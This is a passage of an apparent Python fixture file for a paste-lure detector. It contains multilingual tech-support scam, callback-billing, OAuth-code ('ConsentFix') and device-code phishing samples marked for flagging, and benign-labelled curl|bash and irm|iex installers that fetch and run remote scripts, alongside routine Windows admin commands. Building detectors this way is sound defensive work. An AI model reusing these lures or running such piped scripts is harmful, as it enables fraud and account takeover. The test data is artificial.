        "Bilgisayarınız güvenlik nedeniyle engellendi! Tehlikeli bir virüs tespit edildi. Bilgisayarınızı kapatmayın, hemen destek hattını arayın: +90 212 555 01 48.",
    ),
    (
        "ru",
        "Внимание! Ваш компьютер заблокирован из-за подозрительной активности. Не выключайте компьютер. Немедленно позвоните в службу поддержки Microsoft: +7 495 555-01-73.",
    ),
    (
        "ja",
        "警告：お使いのコンピューターはブロックされました。ウイルスが検出されました。電源を切らずに、今すぐマイクロソフトサポートにお電話ください：050-5555-0142",
    ),
    (
        "zh",
        "警告！您的电脑已被锁定，检测到木马病毒正在窃取您的银行信息。请勿关闭电脑，立即拨打微软技术支持电话：+86 10 5555 0196",
    ),
    (
        "ar",
        "تحذير! تم حظر جهاز الكمبيوتر الخاص بك بسبب نشاط مشبوه. لا تقم بإيقاف تشغيل الجهاز. اتصل فوراً بالدعم الفني لمايكروسوفت على الرقم ‎+971 4 555 0132",
    ),
    (
        "sv",
        "Varning! Din dator har låsts på grund av misstänkt aktivitet. Stäng inte av datorn. Ring Microsoft support omedelbart: +46 8 555 018 90.",
    ),
    (
        "ko",
        "경고! 귀하의 컴퓨터가 차단되었습니다. 악성 바이러스가 탐지되었습니다. 컴퓨터를 끄지 말고 즉시 고객지원센터로 전화하세요: +82 2 555 0139",
    ),
    (
        "cs",
        "Váš počítač byl zablokován kvůli podezřelé aktivitě. Nevypínejte počítač a ihned zavolejte technickou podporu: +420 555 018 227.",
    ),
    (
        "isp",
        "Your internet connection has been suspended by your ISP because malware was detected on your router. To restore access call the ISP security desk at 1-555-017-3390 within 30 minutes.",
    ),
    (
        "apple",
        "iCloud Security Alert: your Apple ID was used to sign in on an unknown device in Lagos. Your iPhone is locked for your protection. Call Apple Support at (555) 013-8840 to unlock.",
    ),
)

CALLBACKS = (
    (
        "en",
        "Order confirmation #INV-22814\nThank you for your purchase of Norton 360 Deluxe (3 years) – $399.99 was charged to your account today.\nIf you did not authorise this transaction, call our billing department within 24 hours: +1 (555) 019-4410.",
    ),
    (
        "en",
        "PayPal: you sent a payment of $749.00 USD to Crypto Exchange Ltd. Didn't make this payment? Call PayPal Resolution Center +1-555-012-6688 to cancel and get a refund.",
    ),
    (
        "de",
        "Ihre Bestellung #DE-55102 (Apple MacBook Air, 1.349,00 €) wurde versandt. Falls Sie diese Bestellung nicht aufgegeben haben, rufen Sie umgehend unseren Kundendienst an: 0800 555 0192.",
    ),
    (
        "fr",
        "Confirmation d'abonnement : McAfee Total Protection renouvelé pour 289,99 €. Pour annuler et obtenir un remboursement, appelez le +33 1 55 50 19 44 sous 48 heures.",
    ),
    (
        "es",
        "Su suscripción a Geek Squad se ha renovado automáticamente por 349,99 €. Si no reconoce este cargo, llame al +34 555 010 722 para cancelar.",
    ),
    (
        "it",
        "Fattura n. 88120: il rinnovo annuale di Microsoft 365 (429,00 €) è stato addebitato. Per contestare l'addebito chiama il +39 02 555 0177.",
    ),
    (
        "pt",
        "Compra aprovada: iPhone 17 Pro – R$ 9.499,00. Não reconhece esta compra? Ligue imediatamente para a central antifraude: 0800 555 0134.",
    ),
)


def add_social_lures(L: Lures) -> None:
    i = 600
    for lang, text in SCAMS:
        i += 1
        L.lure(f"support-scam-{lang}", UNK, page(i), text, expect="flagged", platform="any")
    for lang, text in CALLBACKS:
        i += 1
        L.lure(f"callback-{lang}", UNK, page(i), text, expect="flagged", platform="any")
    # ConsentFix: a page asks for the loopback address (with its OAuth code) to be pasted back
    consent = (
        "http://localhost:8400/?code=0.AVkAq1xHq9mUZ0e3sFjOqkQ7R2Bv8XtR4ZkqTQmLp0z3hcY&state=5f2c8a&session_state=00b1d4c2-1f7e-4a3b-9c6d-77e0a1b2c3d4",
        "http://localhost:50122/callback?code=M.C534_BAY.2.U.7c1d9e2f-8a44-0b3e-6f5a-1c2d3e4f5a6b&state=x91q",
        "http://127.0.0.1:33418/?code=1.AQ4AuV3kY8nR2bT9_signed-in-code-Zq7&client_info=eyJ1aWQiOiIxIn0&state=Q0KpZ",
        "http://localhost:8080/oauth2/callback?state=abc77&code=4/0AQSTgQF-k2tJ9vYhXnm3Pq&scope=https://www.googleapis.com/auth/drive",
        "http://[::1]:7012/auth?code=gho_exchange_9Yt2LmQ0vRk8&state=eb4",
        "To finish signing in, copy the full address from your browser's address bar (it starts with http://localhost) and paste it into the box below:\nhttp://localhost:8400/?code=0.AXoA9dN3Kp2&session_state=a1b2",
    )
    for text in consent:
        i += 1
        L.lure("consentfix", UNK, page(i), text, expect="flagged", platform="any")
    # Device-code phishing: a real login page named, a code the attacker got
    device = (
        "Security verification required. Go to https://microsoft.com/devicelogin and enter the code GQ7R-K2MX to keep access to your mailbox.",
        "Your shared document is protected. Visit microsoft.com/devicelogin and type code: HJ4K9PQZ to view it.",
        "To join the board meeting, authenticate: open https://github.com/login/device and enter 7F2A-91CD.",
        "Teams compliance check: sign in at https://microsoft.com/devicelogin with code B8WT3NLV before 17:00 or your account will be suspended.",
    )
    for text in device:
        i += 1
        L.lure("device-code", UNK, page(i), text, expect="flagged", platform="any")


def lures() -> Lures:
    L = Lures()
    add_live_page_lures(L)
    add_ioc_lures(L)
    add_fixture_obfuscations(L)
    add_social_lures(L)
    return L


# ----------------------------------------------------------------------------------------------
# Benign: installers copied from their own project's page (real projects' documented install
# lines, found by searching public README files; README "Blind-18" says how)
# ----------------------------------------------------------------------------------------------

GH = "https://github.com/"
RAW = "https://raw.githubusercontent.com/"

# (owner/repo, page suffix, text); the page is github.com/<owner>/<repo><suffix>
OWN_PAGE: tuple[tuple[str, str, str], ...] = (
    ("moonc4ke/nvim-config", "", f"curl -fsSL {RAW}moonc4ke/nvim-config/main/install.sh | bash"),
    ("11w5/dotfiles", "", f"curl -fsSL {RAW}11w5/dotfiles/main/install.sh | bash"),
    ("teddytennant/wizard", "", f"curl -fsSL {RAW}teddytennant/wizard/main/install.sh | bash"),
    (
        "dwirx/podx",
        "#installation",
        f"# Install latest stable version\ncurl -fsSL {RAW}dwirx/podx/main/install.sh | bash",
    ),
    (
        "matbrgz/dotfiles",
        "#-quick-start",
        f"curl -fsSL {RAW}matbrgz/dotfiles/main/install.sh | bash",
    ),
    ("pkyanam/agora-cli", "", f"curl -fsSL {RAW}pkyanam/agora-cli/main/install.sh | bash"),
    (
        "karledofe03-web/doubao-image-gen-skill",
        "",
        f"curl -fsSL {RAW}karledofe03-web/doubao-image-gen-skill/main/install.sh | bash",
    ),
    (
        "gfchfjh/CSBJJWT",
        "",
        f"# Linux/macOS 一键安装\ncurl -fsSL {RAW}gfchfjh/CSBJJWT/main/install.sh | bash\n./start.sh",
    ),
    ("damessner/learn_", "", f"curl -fsSL {RAW}damessner/learn_/main/install.sh | bash"),
    (
        "pimalaya/himalaya",
        "#installation",
        f"curl -sSL {RAW}pimalaya/himalaya/master/install.sh | sh",
    ),
    ("hhd-dev/hhd", "#installation", f"curl -L {GH}hhd-dev/hhd/raw/master/install.sh | sh"),
    ("GladCubes/why", "", f"curl -fsSL {RAW}GladCubes/why/master/install.sh | sh"),
    ("crossplane/crossplane", "", f"curl -sL {RAW}crossplane/crossplane/master/install.sh | sh"),
    (
        "PouriahLabs/claude-statusline",
        "",
        f"irm {RAW}PouriahLabs/claude-statusline/main/install.ps1 | iex",
    ),
    ("iagentshub/iAgents", "", f"irm {RAW}iagentshub/iAgents/main/install.ps1 | iex"),
    (
        "Yassimba/loom",
        "",
        f'powershell -NoProfile -ExecutionPolicy Bypass -Command "irm {RAW}Yassimba/loom/main/install.ps1 | iex"',
    ),
    (
        "Dicklesworthstone/franken_ocr",
        "",
        f"irm {RAW}Dicklesworthstone/franken_ocr/main/install.ps1 | iex",
    ),
    (
        "Proce2/starship-pwsh-setup",
        "#one-line-installation",
        f"irm {RAW}Proce2/starship-pwsh-setup/main/install.ps1 | iex",
    ),
    ("luynrs/justray", "", f"# Windows\nirm {RAW}luynrs/justray/main/install.ps1 | iex"),
    (
        "skylercong-cloud/copilot-skills",
        "#one-line-install",
        f"irm {RAW}skylercong-cloud/copilot-skills/main/install.ps1 | iex",
    ),
    (
        "xjwm5685-ui/cliai",
        "#installation",
        f"iwr -useb {RAW}xjwm5685-ui/cliai/main/install.ps1 | iex",
    ),
    (
        "berkcangumusisik/agent-hub",
        "",
        f"irm {RAW}berkcangumusisik/agent-hub/main/install.ps1 | iex",
    ),
    ("0xZOne/perfetto-mcp-rs", "", f"irm {RAW}0xZOne/perfetto-mcp-rs/main/install.ps1 | iex"),
    (
        "Fueav/code-quality",
        "",
        f"# 最新版\ncurl -fsSL {GH}Fueav/code-quality/releases/latest/download/install.sh | sh",
    ),
    (
        "GaiaNet-AI/gaianet-node",
        "",
        f"curl -sSfL '{GH}GaiaNet-AI/gaianet-node/releases/latest/download/install.sh' | bash",
    ),
    (
        "hulo-lang/hulo",
        "",
        f"# Linux/macOS\ncurl -L {GH}hulo-lang/hulo/releases/latest/download/install.sh | bash",
    ),
    (
        "hulo-lang/hulo",
        "/releases",
        f"# Windows (PowerShell)\nirm {GH}hulo-lang/hulo/releases/latest/download/install.ps1 | iex",
    ),
    (
        "carlo/rotp",
        "",
        f"# Install script\ncurl -fsSL {GH}carlo/rotp/releases/latest/download/install.sh | sh",
    ),
    (
        "gokartn/HostCraft",
        "",
        f"curl -fsSL {GH}gokartn/HostCraft/releases/latest/download/install.sh | bash",
    ),
    (
        "TexasOct/jev-gateway",
        "",
        f"curl -fsSL {GH}TexasOct/jev-gateway/releases/latest/download/install.sh | sh -s -- --yes",
    ),
    (
        "hayripenah/Duendee-Tunnel-Tool",
        "",
        f"curl -fsSL {RAW}hayripenah/Duendee-Tunnel-Tool/main/scripts/install.sh | bash",
    ),
    ("boi-gg/ghstats", "", f"curl -fsSL {RAW}boi-gg/ghstats/main/scripts/install.sh | bash"),
    ("boi-gg/ghstats", "#install", f"irm {RAW}boi-gg/ghstats/main/scripts/install.ps1 | iex"),
    (
        "NousResearch/hermes-agent",
        "",
        f"curl -fsSL {RAW}NousResearch/hermes-agent/main/scripts/install.sh | bash\nsource ~/.bashrc\nhermes",
    ),
    (
        "ForkYoraiLevi/marketplace",
        "",
        f"curl -fsSL {RAW}ForkYoraiLevi/marketplace/main/scripts/install.sh | bash",
    ),
    (
        "goodtiger/openclaw-install",
        "",
        f"curl -fsSL {RAW}goodtiger/openclaw-install/main/scripts/install.sh | bash",
    ),
    (
        "JoeyEamigh/ccengram",
        "#install",
        f"curl -fsSL {RAW}JoeyEamigh/ccengram/main/scripts/install.sh | bash",
    ),
    (
        "KurutoDenzeru/envexa",
        "",
        f"curl -fsSL {RAW}KurutoDenzeru/envexa/main/scripts/install.sh | bash",
    ),
    (
        "reqvire-org/reqvire",
        "",
        f"curl -fsSL {RAW}reqvire-org/reqvire/main/scripts/install.sh | bash",
    ),
    (
        "inferLean/inferlean",
        "",
        f"curl -fsSL {RAW}inferLean/inferlean/main/scripts/install.sh | bash",
    ),
    (
        "inferLean/inferlean",
        "#install",
        f"irm {RAW}inferLean/inferlean/main/scripts/install.ps1 | iex",
    ),
    (
        "ReinaMacCredy/maestro",
        "",
        f"curl -fsSL {RAW}ReinaMacCredy/maestro/main/scripts/install.sh | bash",
    ),
    ("whynowlab/jarvis-orb", "", f"irm {RAW}whynowlab/jarvis-orb/main/install.ps1 | iex"),
    ("nishanb/ck-x", "", f"curl -fsSL {RAW}nishanb/ck-x/master/scripts/install.sh | bash"),
    ("sm-o3/congregation-tools", "", f"irm {RAW}sm-o3/congregation-tools/main/install.ps1 | iex"),
    ("Kaidera-AI/OpenKai", "", f"irm {RAW}Kaidera-AI/OpenKai/main/scripts/install.ps1 | iex"),
    ("wasmcloud/wasmCloud", "", f"curl -fsSL {RAW}wasmcloud/wasmCloud/main/install.sh | bash"),
    ("dmi3vla/rhun", "", f"curl -fsSL {GH}dmi3vla/rhun/releases/latest/download/install.sh | sh"),
    (
        "1-800-operator/operator",
        "",
        f"curl -fsSL {RAW}1-800-operator/operator/main/install.sh | bash",
    ),
    (
        "mrmuminov/claude-usage-tray-go",
        "",
        f"irm {RAW}mrmuminov/claude-usage-tray-go/master/install.ps1 | iex",
    ),
    ("viict/tread", "", f"irm {RAW}viict/tread/master/install.ps1 | iex"),
    ("zhivko-kocev/friday", "", f"iwr -useb {RAW}zhivko-kocev/friday/master/install.ps1 | iex"),
    (
        "sionex-code/muse-terminal",
        "",
        f"irm {RAW}sionex-code/muse-terminal/master/install.ps1 | iex",
    ),
    (
        "layabox/layaair-cli",
        "",
        f"iwr {RAW}layabox/layaair-cli/master/install.ps1 | iex; layaair install",
    ),
    ("Artifact-Virtual/mach6", "", f"irm {RAW}Artifact-Virtual/mach6/master/install.ps1 | iex"),
    (
        "jnPiyush/AgentX",
        "",
        f"# PowerShell — into an existing project directory\ncd your-project\nirm {RAW}jnPiyush/AgentX/master/install.ps1 | iex",
    ),
    (
        "jnPiyush/AgentX",
        "#quick-install",
        f"# Bash\ncd your-project\ncurl -fsSL {RAW}jnPiyush/AgentX/master/install.sh | bash",
    ),
    ("kirrosh/zond", "", f"iwr {RAW}kirrosh/zond/master/install.ps1 | iex"),
    ("9nunya/Firmius", "#windows", f"irm {RAW}9nunya/Firmius/refs/heads/master/install.ps1 | iex"),
    ("tyler-johnson/fufu", "", f"curl -fsSL {RAW}tyler-johnson/fufu/main/install.sh | sh"),
    ("tyler-johnson/fufu", "#install", f"irm {RAW}tyler-johnson/fufu/main/install.ps1 | iex"),
    ("eyu1988/stopwatch", "#install", f"curl -fsSL {RAW}eyu1988/stopwatch/main/install.sh | sh"),
    ("fxrdhan/Cipherz", "", f"curl -fsSL {RAW}fxrdhan/Cipherz/main/install.sh | sh"),
    (
        "gregory-chatelier/watchman",
        "",
        f"curl -sSfL {RAW}gregory-chatelier/watchman/main/install.sh | sh",
    ),
    (
        "Lapius7/cli-client_supabase-chat-app",
        "",
        f"curl -fsSL {RAW}Lapius7/cli-client_supabase-chat-app/main/install.sh | sh",
    ),
    (
        "gupsammy/EzyCopy",
        "#quick-install-recommended",
        f"curl -sSL {RAW}gupsammy/EzyCopy/main/install.sh | sh",
    ),
    (
        "fhajjej-ship-it/Supered",
        "",
        f"curl -fsSL {RAW}fhajjej-ship-it/Supered/main/install.sh | SUPERED_TARGET=gemini sh",
    ),
    (
        "BeforeWave/dsh-with-chatgpt",
        "",
        f"curl -fsSL {RAW}BeforeWave/dsh-with-chatgpt/main/install.sh | sh -s -- 0.1.4",
    ),
    (
        "rassweiler/refind-theme-dracula",
        "#installation",
        f"curl -sL {RAW}rassweiler/refind-theme-dracula/master/install.sh | bash",
    ),
    ("donut-corp/cdomer", "", f"curl -sL {RAW}donut-corp/cdomer/master/install.sh | bash"),
    (
        "Joshf225/spacebot-homelab-mcp",
        "",
        f"curl -fsSL {RAW}Joshf225/spacebot-homelab-mcp/master/install.sh | bash",
    ),
    (
        "Asashishi/copy_ninjia",
        "",
        f"curl -fsSL {RAW}Asashishi/copy_ninjia/master/install.sh | bash",
    ),
    (
        "dev-foundations/agent-secrets",
        "",
        f"irm {GH}dev-foundations/agent-secrets/releases/latest/download/install.ps1 | iex",
    ),
    (
        "Dendro-X0/signaler",
        "#quick-start",
        f"iwr {GH}Dendro-X0/signaler/releases/latest/download/install.ps1 | iex",
    ),
    (
        "Dendro-X0/signaler",
        "",
        f"curl -fsSL {GH}Dendro-X0/signaler/releases/latest/download/install.sh | bash",
    ),
    (
        "portpowered/you-agent-factory",
        "",
        f"irm {GH}portpowered/you-agent-factory/releases/latest/download/install.ps1 | iex",
    ),
    ("hjun1052/tali", "", f"irm {GH}hjun1052/tali/releases/latest/download/install.ps1 | iex"),
    (
        "RikyZ90/ShibaClaw",
        "",
        f"iwr -useb {GH}RikyZ90/ShibaClaw/releases/latest/download/install.ps1 | iex",
    ),
    (
        "RikyZ90/ShibaClaw",
        "/releases",
        f"curl -fsSL {GH}RikyZ90/ShibaClaw/releases/latest/download/install.sh | bash",
    ),
    (
        "Dendro-X0/Signet",
        "",
        f"irm {GH}Dendro-X0/Signet/releases/latest/download/install.ps1 | iex",
    ),
    (
        "docanvil/docanvil",
        "",
        f"& ([scriptblock]::Create((irm {GH}docanvil/docanvil/releases/latest/download/install.ps1))) -Version 1.2.0",
    ),
    (
        "necatiprok1/nect",
        "",
        f"irm {GH}necatiprok1/nect/releases/latest/download/install.ps1 | iex",
    ),
    (
        "xjoker/codex-switch",
        "",
        f"irm {RAW}xjoker/codex-switch/master/scripts/install.ps1 | iex\ncodex-switch login\ncodex-switch tui",
    ),
    (
        "BegaDeveloper/smartsh",
        "",
        f"iwr -useb {RAW}BegaDeveloper/smartsh/main/scripts/install.ps1 | iex\nsmartsh.exe setup-agent",
    ),
    (
        "BegaDeveloper/smartsh",
        "#install-via-go",
        "go install github.com/BegaDeveloper/smartsh/cmd/smartsh@latest",
    ),
    ("ZSeven-W/zode", "", f"irm {RAW}ZSeven-W/zode/main/scripts/install.ps1 | iex"),
    ("hizkifw/kon", "", f"iwr -useb {RAW}hizkifw/kon/main/scripts/install.ps1 | iex"),
    (
        "ndk123-web/trak",
        "",
        f'powershell -ExecutionPolicy Bypass -Command "iwr -useb {RAW}ndk123-web/trak/main/scripts/install.ps1 | iex"',
    ),
    (
        "datadrivenconstruction/OpenConstructionERP",
        "",
        f"# Windows (PowerShell)\nirm {RAW}datadrivenconstruction/OpenConstructionERP/main/scripts/install.ps1 | iex",
    ),
    (
        "geneva-render/geneva",
        "",
        f"# Windows (PowerShell)\nirm {RAW}geneva-render/geneva/main/scripts/install.ps1 | iex",
    ),
    ("aphrody-code/shenron", "", f"irm {RAW}aphrody-code/shenron/main/scripts/install.ps1 | iex"),
    ("edihasaj/guiport", "", f"iwr -useb {RAW}edihasaj/guiport/main/scripts/install.ps1 | iex"),
    (
        "sunnypatell/sunnify-spotify-downloader",
        "",
        f"curl -fsSL {RAW}sunnypatell/sunnify-spotify-downloader/main/scripts/install.sh | sh",
    ),
    (
        "sunnypatell/sunnify-spotify-downloader",
        "#install",
        f"iwr -useb {RAW}sunnypatell/sunnify-spotify-downloader/main/scripts/install.ps1 | iex",
    ),
    (
        "southwarridev/ovie",
        "",
        f"iwr -useb {RAW}southwarridev/ovie/main/easy-windows-install.ps1 | iex",
    ),
    ("stasnowak/Uped", "", f"wget -qO- {RAW}stasnowak/Uped/main/install.sh | sh"),
    (
        "wprodev/aws-profile-switcher",
        "",
        f"wget -qO- {RAW}wprodev/aws-profile-switcher/main/install_aws_profile_switcher.sh | sh",
    ),
    (
        "pashbyl/dotfiles",
        "",
        f"curl -fsSL {RAW}pashbyl/dotfiles/master/bootstrap.sh | sh\n# or\nwget -qO- {RAW}pashbyl/dotfiles/master/bootstrap.sh | sh",
    ),
    (
        "advpetc/kickstart.nvim",
        "",
        f'sh -c "$(curl -fsSL {RAW}advpetc/kickstart.nvim/master/install.sh)"',
    ),
    (
        "mahito1594/changeset-component-viewer",
        "#installation",
        f"cargo install --git {GH}mahito1594/changeset-component-viewer",
    ),
    ("morr0ne/bento", "", f"cargo install --git {GH}morr0ne/bento.git"),
    (
        "chaosoffire/gpg-bridge",
        "",
        f"# Option A: Build from source\ncargo install --git {GH}chaosoffire/gpg-bridge",
    ),
    ("go-bayes/nzi-cli", "#installation", f"cargo install --git {GH}go-bayes/nzi-cli"),
    ("sIDsID11/nextbike", "", f"pip install git+{GH}sIDsID11/nextbike"),
    ("bueormnew/engrama", "", f"pip install git+{GH}bueormnew/engrama.git"),
    ("aistairc/aiaccel", "", f"pip install git+{GH}aistairc/aiaccel.git"),
    (
        "diegogodoy06/netbox-maintenance-device",
        "",
        f"pip install git+{GH}diegogodoy06/netbox-maintenance-device.git\ndocker-compose restart netbox",
    ),
)


def add_own_page(B: list[Benign]) -> None:
    for repo, suffix, text in OWN_PAGE:
        B.append((OWN, TERM, f"{GH}{repo}{suffix}", text))


# ----------------------------------------------------------------------------------------------
# Benign: other texts people paste, each with the page it came from and where it goes
# ----------------------------------------------------------------------------------------------

MSL = "https://learn.microsoft.com/en-us/"
SO = "https://stackoverflow.com/questions/"
SU = "https://superuser.com/questions/"
SF = "https://serverfault.com/questions/"

ADMIN_PS = (
    (
        MSL + "powershell/module/microsoft.powershell.management/get-service",
        "Get-Service -ComputerName FS02 | Where-Object {$_.StartType -eq 'Automatic' -and $_.Status -ne 'Running'} | Select Name, DisplayName",
    ),
    (
        MSL + "windows-server/administration/windows-commands/gpupdate",
        "Invoke-GPUpdate -Computer WS-0142 -RandomDelayInMinutes 0 -Force",
    ),
    (
        SO + "8127511/powershell-find-large-files",
        "Get-ChildItem C:\\ -Recurse -ErrorAction SilentlyContinue | Where-Object Length -gt 1GB | Sort-Object Length -Descending | Select-Object FullName, @{n='GB';e={[math]::Round($_.Length/1GB,2)}} -First 20",
    ),
    (
        MSL + "powershell/module/activedirectory/get-aduser",
        "Get-ADUser -Filter {Enabled -eq $true -and LastLogonDate -lt $cutoff} -Properties LastLogonDate | Select Name,SamAccountName,LastLogonDate | Export-Csv stale-users.csv -NoTypeInformation",
    ),
    (
        MSL + "powershell/module/exchange/get-mailboxstatistics",
        "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object DisplayName,TotalItemSize -First 25",
    ),
    (
        MSL + "windows/wsl/install",
        "wsl --set-default-version 2; wsl --install -d Debian --no-launch",
    ),
    (
        MSL + "windows-server/storage/disk-management/manage-disks",
        "Get-Disk | Where-Object PartitionStyle -eq 'RAW' | Initialize-Disk -PartitionStyle GPT -PassThru | New-Partition -AssignDriveLetter -UseMaximumSize | Format-Volume -FileSystem NTFS -NewFileSystemLabel Data",
    ),
    (
        SU + "1720198/reset-network-stack-windows-11",
        "netsh winsock reset\nnetsh int ip reset\nipconfig /release\nipconfig /renew\nipconfig /flushdns",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.security/set-executionpolicy",
        "Get-ChildItem Cert:\\CurrentUser\\My -CodeSigningCert | Format-List Subject, Issuer, NotAfter",
    ),
    (
        MSL + "windows/client-management/manage-windows-11-in-s-mode",
        "Get-AppxPackage -AllUsers | Where-Object {$_.Name -like '*Xbox*'} | Select Name, PackageFullName",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.management/test-connection",
        "Test-NetConnection -ComputerName sql01.corp.local -Port 1433 -InformationLevel Detailed",
    ),
    (
        MSL + "troubleshoot/windows-client/deployment/fix-windows-update-errors",
        "DISM /Online /Cleanup-Image /ScanHealth\nDISM /Online /Cleanup-Image /StartComponentCleanup /ResetBase",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.utility/get-filehash",
        "Get-FileHash .\\VSCodeUserSetup-x64-1.96.2.exe -Algorithm SHA256",
    ),
    (
        MSL + "windows-server/remote/remote-desktop-services/clients/remote-desktop-allow-access",
        "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0\nEnable-NetFirewallRule -DisplayGroup 'Remote Desktop'",
    ),
    (
        MSL + "powershell/scripting/learn/ps101/07-working-with-wmi",
        "Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, BuildNumber, LastBootUpTime",
    ),
    (
        MSL + "microsoft-365/enterprise/connect-to-microsoft-365-powershell",
        "Install-Module -Name Microsoft.Graph -Scope CurrentUser\nConnect-MgGraph -Scopes 'User.Read.All','Group.ReadWrite.All'",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.management/restart-computer",
        "Restart-Computer -ComputerName PC-RECEPTION, PC-LAB-07 -Force -Wait -For PowerShell -Timeout 300",
    ),
    (
        SO + "36643174/get-installed-software-list-powershell",
        "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion, Publisher | Sort-Object DisplayName | Format-Table -AutoSize",
    ),
    (
        MSL + "windows/security/operating-system-security/data-protection/bitlocker/",
        "manage-bde -status C:\nGet-BitLockerVolume | Select MountPoint, VolumeStatus, ProtectionStatus",
    ),
    (
        MSL + "powershell/module/defender/get-mpcomputerstatus",
        "Get-MpThreatDetection | Sort-Object InitialDetectionTime -Descending | Select-Object -First 5 ThreatID, InitialDetectionTime, Resources",
    ),
    (
        MSL + "powershell/module/defender/update-mpsignature",
        "Start-MpScan -ScanType QuickScan; Get-MpComputerStatus | Select QuickScanEndTime, QuickScanAge",
    ),
    (
        SO + "5592531/how-to-pass-an-argument-to-a-powershell-script",
        "param([string]$Environment = 'staging', [int]$Retries = 3)\nWrite-Host \"Deploying to $Environment with $Retries retries\"",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.management/get-eventlog",
        "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddDays(-1)} | Format-List TimeCreated, Id, Message",
    ),
    (
        MSL + "windows-server/networking/technologies/ipam/",
        "Get-NetIPConfiguration | Select-Object InterfaceAlias, IPv4Address, IPv4DefaultGateway, DNSServer",
    ),
    (
        MSL + "powershell/module/smbshare/new-smbshare",
        "New-SmbShare -Name Scans -Path D:\\Scans -ChangeAccess 'CORP\\Scanner-Users' -FullAccess 'CORP\\Domain Admins'",
    ),
    (
        MSL + "powershell/module/scheduledtasks/register-scheduledtask",
        "$a = New-ScheduledTaskAction -Execute 'C:\\Scripts\\backup.cmd'\n$t = New-ScheduledTaskTrigger -Daily -At 2am\nRegister-ScheduledTask -TaskName 'Nightly Backup' -Action $a -Trigger $t -User 'SYSTEM'",
    ),
    (
        SU + "1450283/powershell-uptime",
        "Get-CimInstance Win32_PhysicalMemory | Measure-Object Capacity -Sum | ForEach-Object { '{0:N0} GB' -f ($_.Sum / 1GB) }",
    ),
    (
        MSL + "windows/package-manager/winget/upgrade",
        "winget upgrade --id Mozilla.Firefox --silent; winget list --upgrade-available",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.archive/compress-archive",
        'Compress-Archive -Path .\\logs\\*.log -DestinationPath "logs-$(Get-Date -Format yyyyMMdd).zip"',
    ),
    (
        MSL + "powershell/module/microsoft.powershell.utility/invoke-restmethod",
        "Invoke-RestMethod -Uri 'https://api.github.com/repos/PowerShell/PowerShell/releases/latest' | Select-Object tag_name, published_at",
    ),
    (
        MSL + "troubleshoot/windows-server/printing/",
        "Get-Printer | Where-Object PrinterStatus -ne 'Normal' | Select Name, PortName, PrinterStatus\nGet-PrintJob -PrinterName 'HP-Floor3' | Remove-PrintJob",
    ),
    (
        MSL + "powershell/module/nettcpip/get-nettcpconnection",
        "Get-NetTCPConnection -State Listen | Sort-Object LocalPort | Select LocalAddress, LocalPort, OwningProcess, @{n='Proc';e={(Get-Process -Id $_.OwningProcess).Name}}",
    ),
    (
        MSL + "entra/identity/devices/troubleshoot-device-dsregcmd",
        "dsregcmd /status | Select-String 'AzureAdJoined|DomainJoined|WorkplaceJoined|TenantName'",
    ),
    (
        MSL + "mem/intune/remote-actions/device-sync",
        "Get-ScheduledTask -TaskPath '\\Microsoft\\Windows\\EnterpriseMgmt\\*' | Select TaskName, State",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.localaccounts/add-localgroupmember",
        "Add-LocalGroupMember -Group 'Administrators' -Member 'CORP\\helpdesk-tier2'",
    ),
    (
        MSL + "windows-server/administration/openssh/openssh_install_firstuse",
        "Get-WindowsCapability -Online | Where-Object Name -like 'OpenSSH*' | Select Name, State",
    ),
    (
        MSL + "powershell/scripting/install/installing-powershell-on-windows",
        "winget install --id Microsoft.PowerShell.Preview --source winget --scope machine",
    ),
    (
        MSL + "exchange/recipients-in-exchange-online/manage-user-mailboxes/",
        "Set-MailboxAutoReplyConfiguration -Identity j.moreau@contoso.com -AutoReplyState Enabled -InternalMessage 'Out until 5 January.'",
    ),
    (
        MSL + "powershell/module/microsoft.powershell.management/clear-recyclebin",
        "Clear-RecycleBin -DriveLetter C -Force",
    ),
    (
        MSL + "windows/client-management/mdm/policy-csp-update",
        "Get-HotFix | Sort-Object InstalledOn -Descending | Select-Object -First 10 HotFixID, Description, InstalledOn",
    ),
)

CMD = (
    (SU + "1088493/find-which-process-uses-port", "netstat -ano | findstr :8080"),
    (SU + "1329217/tasklist-kill", "taskkill /F /IM teams.exe /T"),
    (
        MSL + "windows-server/administration/windows-commands/robocopy",
        "robocopy \\\\nas01\\projects D:\\Backup\\projects /MIR /Z /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    ),
    (MSL + "windows-server/administration/windows-commands/chkdsk", "chkdsk C: /f /r"),
    (
        MSL + "windows-server/administration/windows-commands/powercfg",
        'powercfg /batteryreport /output "%USERPROFILE%\\Desktop\\battery.html"',
    ),
    (
        MSL + "windows-server/administration/windows-commands/net-use",
        "net use S: \\\\fileserver01\\shared /persistent:yes",
    ),
    (
        MSL + "windows-server/administration/windows-commands/systeminfo",
        'systeminfo | findstr /B /C:"OS Name" /C:"OS Version" /C:"System Boot Time"',
    ),
    (
        MSL + "windows-server/administration/windows-commands/gpresult",
        "gpresult /h %TEMP%\\gp.html && start %TEMP%\\gp.html",
    ),
    (
        MSL + "windows-server/administration/windows-commands/nslookup",
        "nslookup -type=mx contoso.com",
    ),
    (
        MSL + "windows-server/administration/windows-commands/icacls",
        'icacls "D:\\Shares\\HR" /grant "CORP\\HR-Staff":(OI)(CI)M /T',
    ),
    (
        MSL + "windows-server/administration/windows-commands/sc-config",
        "sc config wuauserv start= auto && net start wuauserv",
    ),
    (MSL + "windows-server/administration/windows-commands/tracert", "tracert -d 8.8.8.8"),
    (MSL + "windows-server/administration/windows-commands/where_1", "where /R C:\\ python.exe"),
    (SU + "444645/delete-folder-long-path", 'rmdir /s /q "C:\\Users\\dev\\node_modules"'),
    (MSL + "windows-server/administration/windows-commands/bcdedit", "bcdedit /enum {current}"),
    (
